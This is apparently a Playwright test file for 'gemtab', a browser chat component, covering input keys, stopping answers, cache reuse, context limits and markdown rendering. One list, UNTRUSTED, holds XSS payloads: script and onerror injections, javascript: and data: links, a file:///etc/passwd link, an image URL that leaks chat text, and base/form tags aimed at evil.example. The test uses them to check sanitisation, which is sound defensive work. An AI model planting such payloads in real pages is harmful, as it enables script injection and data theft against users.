"""Conversations: keys, stopping, reuse of the caches, and the display."""

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from gemtab.chat.template import ChatTemplate
from gemtab.chat.tokenizer import ChatTokenizer
from playwright_tests.conftest import BOTH_BROWSERS, CONTEXT, ChatPage
from playwright_tests.in_page import in_page

TESTED_IN = BOTH_BROWSERS

LONG = "Tell me about gemtab, about tabs, and about the model that runs in them, please. " * 16
"""A prompt with more tokens than the window and a chunk."""

OPENING = 4
"""Maximum ids of the empty thought block before an answer: <|channel> thought \
 <channel|>.
"""

ALMOST_RANDOM = {"temperature": 100.0, "topK": 0, "topP": 1.0, "seed": 3}
"""Sampling with which an answer is as long as allowed, whatever the model has learned."""


def text_of(demo: ChatPage) -> str:
    return demo.field.input_value()


def test_shift_enter_breaks_the_line(demo: ChatPage) -> None:
    demo.field.fill("one")
    demo.field.press("Shift+Enter")
    demo.field.press_sequentially("two")
    assert text_of(demo) == "one\ntwo"
    expect(demo.questions).to_have_count(0)
    demo.field.fill("")


def test_the_field_grows_with_the_text(demo: ChatPage) -> None:
    def height() -> float:
        box = demo.field.bounding_box()
        assert box is not None
        return box["height"]

    before = height()
    demo.field.fill("\n".join("line" for _ in range(5)))
    assert height() > before + 40
    demo.field.fill("")
    assert height() == before


@pytest.mark.parametrize("how", ["Escape", "button"])
def test_an_answer_can_be_stopped(demo: ChatPage, how: str) -> None:
    demo.say("Tell me everything.", maxTokens=400, **ALMOST_RANDOM)
    demo.answers.last.locator("[part~=answer-text]:not(:empty)").wait_for()
    if how == "Escape":
        demo.page.keyboard.press("Escape")
    else:
        demo.page.get_by_role("button", name="Stop").click()
    answer = demo.ended()
    assert answer["finish"] == "abort"
    assert len(demo.recorded("stop")) == 1
    assert 0 < len(answer["ids"]) < 400
    messages = demo.page.evaluate("document.querySelector('gemtab-chat').messages")
    assert messages[-1] == {"role": "assistant", "content": answer["text"]}
    expect(demo.answers.last.locator("[part=stats]")).to_contain_text("stopped")
    expect(demo.field).to_be_focused()


def test_the_next_turn_processes_only_what_follows_the_common_prefix(demo: ChatPage) -> None:
    """The template removes the empty thought from the turn before, so only that turn's answer is processed again."""
    demo.say(LONG)
    first = demo.ended()["stats"]
    assert first["promptTokens"] > 200
    demo.say("And then?")
    second = demo.ended()["stats"]
    assert first["promptTokens"] - OPENING <= second["reusedTokens"] < first["promptTokens"]
    assert second["promptTokens"] > second["reusedTokens"]


def test_a_long_answer_is_followed_from_a_snapshot(demo: ChatPage) -> None:
    """The rings have wrapped since, so only the snapshot can restore them."""
    for seed in range(20):  # an end token may be drawn, once in three answers or so
        demo.restart()
        demo.say(LONG, maxTokens=100, **{**ALMOST_RANDOM, "seed": seed})
        first = demo.ended()
        if first["finish"] == "length":
            break
    assert len(first["ids"]) == 100
    demo.say("And then?")
    assert demo.ended()["stats"]["reusedTokens"] >= first["stats"]["promptTokens"] - OPENING


def test_the_same_seed_gives_the_same_answer(demo: ChatPage) -> None:
    answers = []
    for seed in (7, 7, 8):
        demo.restart()
        demo.say("Say something.", maxTokens=6, **{**ALMOST_RANDOM, "seed": seed})
        answers.append(demo.ended()["ids"])
    assert answers[0] == answers[1] != answers[2]


def test_reset_starts_a_new_conversation(demo: ChatPage) -> None:
    demo.say("Hello!")
    first = demo.ended()
    demo.page.get_by_role("button", name="New conversation").click()
    expect(demo.answers).to_have_count(0)
    expect(demo.field).to_be_focused()
    demo.say("Hello!")
    assert demo.ended()["ids"] == first["ids"]


def test_an_overlong_conversation_is_rejected_and_restored(demo: ChatPage) -> None:
    text = "far too long " * 1500
    demo.say(text)
    expect(demo.log.get_by_role("alert")).to_contain_text(f"but the context holds {CONTEXT}")
    demo.wait_for_state("ready")
    [error] = demo.recorded("error")
    assert error["name"] == "ContextError"
    assert text_of(demo) == text.strip()
    demo.say("Hello!")
    assert demo.ended()["finish"] in ("stop", "length")


def test_an_answer_ends_where_the_context_does(demo: ChatPage, bundles: dict[str, Path]) -> None:
    template, tokenizer = ChatTemplate(bundles["tiny"]), ChatTokenizer(bundles["tiny"])

    def prompt(words: int) -> str:
        return "word " * words

    def tokens(words: int) -> int:
        return len(tokenizer.encode(template.render([{"role": "user", "content": prompt(words).strip()}])))

    words = next(words for words in range(CONTEXT, 0, -1) if tokens(words) <= CONTEXT - 8)
    demo.say(prompt(words), maxTokens=100, **ALMOST_RANDOM)
    answer = demo.ended()
    # The last id need not go into the caches.
    assert len(answer["ids"]) == CONTEXT - tokens(words) + 1 and answer["finish"] == "length"
    assert answer["stats"]["contextUsed"] == CONTEXT
    expect(demo.answers.last.locator("[part=stats]")).to_contain_text("the context is full")


UNTRUSTED = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "[click](javascript:window.hacked=1)",
    "[click]( JaVaScRiPt:window.hacked=1)",
    "[click](java\nscript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x) [relative](../secret)",
    "![an image](https://example.org/tell?what=was-said)",
    "![x](x\" onerror=\"window.hacked=1)",
    "```html\" onclick=\"window.hacked=1\n<b>bold</b>\n```",
    "javascript:window.hacked=1 and https://example.org/\" onmouseover=\"window.hacked=1",
    "> " * 60 + "deep",
    "* " * 60 + "deep",
    "".join("  " * depth + "- item\n" for depth in range(40)),
    "**" * 50 + "_`~" * 50,
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><svg onload=window.hacked=1>",
    "| a | b |\n| --- | --- |\n| <b onclick=x>1</b> | [x](javascript:x) |",
    "<style>* { display: none }</style><base href=//evil.example><form action=//evil.example><input name=q>",
]  # fmt: skip


def test_what_the_model_writes_can_do_nothing(demo: ChatPage) -> None:
    requests: list[str] = []
    demo.page.on("request", lambda request: requests.append(request.url))
    demo.restart([{"role": "assistant", "content": content} for content in UNTRUSTED])
    expect(demo.answers).to_have_count(len(UNTRUSTED))
    found: dict[str, Any] = demo.log.evaluate(in_page("element.written"))
    for link in demo.log.locator("a:not([href])").all():
        link.click(force=True, no_wait_after=True)
    assert demo.page.evaluate("window.hacked ?? null") is None and found["hacked"] is None
    forbidden = {"script", "img", "iframe", "svg", "style", "base", "form", "object", "embed", "video", "audio"}
    assert forbidden.isdisjoint(found["tags"])
    assert set(found["attributes"]) <= {
        "part",
        "class",
        "tabindex",
        "href",
        "target",
        "rel",
        "type",
        "disabled",
        "start",
    }
    assert set(found["links"]) <= {"http:", "https:", "mailto:"}
    # The markdown parser is loaded with the first answer.
    assert [request for request in requests if not request.startswith(f"{demo.page.url}assets/")] == []
    expect(demo.answers.nth(0)).to_contain_text("<script>window.hacked = 1</script>")


def test_markdown_is_shown_as_such(demo: ChatPage) -> None:
    content = (
        "# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n```js\nlet x;\n```\n[a link](https://example.org/)"
    )
    demo.restart([{"role": "user", "content": "**not** markdown"}, {"role": "assistant", "content": content}])
    answer = demo.answers.last
    for selector, text in {"strong": "bold", "p code": "code", "pre code": "let x;", "h3": "Title"}.items():
        expect(answer.locator(selector)).to_have_text(text)
    expect(answer.locator("li")).to_have_text(["one", "two"])
    link = answer.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(demo.questions.last).to_contain_text("**not** markdown")


def test_a_conversation_can_be_gone_on_with(demo: ChatPage) -> None:
    history = [{"role": "user", "content": "My name is Ada."}, {"role": "assistant", "content": "Hello, Ada!"}]
    demo.restart(history)
    demo.say("What is my name?")
    demo.ended()
    messages = demo.page.evaluate("document.querySelector('gemtab-chat').messages")
    assert messages[:3] == [*history, {"role": "user", "content": "What is my name?"}]


def test_answers_are_announced_by_sentence(demo: ChatPage) -> None:
    """The log is silent; a polite live region gets complete sentences."""
    expect(demo.log).to_have_attribute("aria-live", "off")
    demo.say("Hello!", maxTokens=24)
    answer = demo.ended()
    said = demo.chat.locator("[aria-live=polite] p").all_inner_texts()
    assert "".join("".join(said).split()) != ""
    assert len(said) <= answer["text"].count(".") + answer["text"].count("\n") + answer["text"].count("!") + 3


def test_two_elements_share_the_weights(demo: ChatPage) -> None:
    models = demo.page.evaluate(in_page("element.modelsOfTwo"))
    assert models[0] == models[1]
    demo.say("Still there?")
    assert demo.ended()["finish"] in ("stop", "length")
